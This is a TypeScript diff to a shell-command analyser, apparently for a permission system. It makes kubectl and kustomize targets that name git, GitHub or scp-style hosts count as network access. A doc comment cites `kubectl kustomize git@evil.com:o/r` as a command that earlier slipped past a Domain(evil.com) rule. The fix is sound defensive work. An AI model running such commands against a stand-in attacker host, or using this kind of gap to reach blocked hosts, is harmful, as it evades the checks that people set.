@@ -101,19 +101,67 @@ export function kubectlFiles(words: readonly string[], dynamic: readonly boolean
       else if (value !== '-') filenames.push({ word: value, dynamic: valueDynamic });
       // (A kubeconfig's user may name an exec credential plugin: a program kubectl runs, unread here.)
       if (name === '--kubeconfig') t.problem('kubectl --kubeconfig reads a configuration that may name a program it runs (an exec credential plugin)');
-    } else if (name === '-k' || name === '--kustomize' || www) t.read(value, valueDynamic, 'tree');
+    } else if (name === '-k' || name === '--kustomize') kustomizeTarget({ word: value, dynamic: valueDynamic }, t);
+    else if (www) t.read(value, valueDynamic, 'tree');
     else if (name === '-s' || name === '--server') t.url(value.includes('://') ? value : `https://${value}/`, valueDynamic);
     else if (file !== undefined) t.read(file === 'keyed' && !valueDynamic ? value.slice(value.indexOf('=') + 1) : value, valueDynamic, file === 'keyed' ? 'tree' : 'none');
   }
   for (const f of filenames) manifests(f, recursive, t);
   // (`kubectl kustomize [DIR]` builds the kustomization below DIR.)
-  if (sub === 'kustomize') t.read(operands[0]?.word ?? '.', operands[0]?.dynamic ?? false, 'tree');
+  if (sub === 'kustomize') kustomizeTarget(operands[0] ?? { word: '.', dynamic: false }, t);
   if (sub === 'cp') {
     const [from, to] = operands;
     if (from !== undefined && (from.dynamic || !containerSide(from.word))) t.read(from.word, from.dynamic, 'tree');
     if (to !== undefined && (to.dynamic || !containerSide(to.word))) t.edit(to.word, to.dynamic, 'tree');
   }
   if (sub === 'config') storedKubeconfigCommand(operands, plugin, t);
+}
+
+/** A kustomization kustomize clones (`git::` aside): a URL, `gh:`, github.com's, or scp-like `user@host:path`. */
+const KUSTOMIZE_SCHEME = /^([a-z][a-z0-9+.-]*):\/\//i;
+const KUSTOMIZE_GITHUB = /^(?:gh:|github\.com[/:])/i;
+const KUSTOMIZE_SCP = /^[^/:@]+@([^/:]+)[:/]/;
+
+/**
+ * A kustomization target (`-k`, `kubectl kustomize`, `kustomize build`): kustomize reads it as a
+ * git repository to clone before a directory here, so `github.com/o/r`, `git@h:o/r` and
+ * `git::https://h/r` reach their host (`kubectl kustomize git@evil.com:o/r` was allowed beside
+ * Domain(evil.com)); a `file://` URL and a plain word are the directory, read below it. An
+ * expansion may be either.
+ */
+export function kustomizeTarget(target: { word: string; dynamic: boolean }, t: FileTouches): void {
+  if (target.dynamic) {
+    t.read(target.word, true, 'tree');
+    t.url(target.word, true);
+    return;
+  }
+  const w = target.word.replace(/^git::/i, '');
+  const scheme = KUSTOMIZE_SCHEME.exec(w)?.[1]?.toLowerCase();
+  if (scheme === 'file') t.read(w.slice(7), false, 'tree');
+  else if (scheme !== undefined) t.url(w, false);
+  else if (KUSTOMIZE_GITHUB.test(w)) t.url('https://github.com/', false);
+  else {
+    const scp = KUSTOMIZE_SCP.exec(w);
+    if (scp !== null) t.url(`ssh://${scp[1]}/`, false);
+    else t.read(target.word, false, 'tree');
+  }
+}
+
+/**
+ * `kustomize build [TARGET]` (also `kustomize TARGET`, an old spelling): the target, the working
+ * directory without one. Its options are not read, so every word after `build` that is no option
+ * is read as a target (a value such as `-o out.yaml`'s is then a directory here too).
+ */
+export function kustomizeBuild(words: readonly string[], dynamic: readonly boolean[], t: FileTouches): void {
+  const at = words.indexOf('build');
+  if (at < 1 || dynamic.slice(1, at).some(Boolean)) return;
+  let targets = 0;
+  for (let i = at + 1; i < words.length; i++) {
+    if (!dynamic[i] && words[i]!.startsWith('-')) continue;
+    kustomizeTarget({ word: words[i]!, dynamic: dynamic[i] ?? false }, t);
+    targets++;
+  }
+  if (targets === 0) t.read('.', false, 'tree');
 }
 
 /**
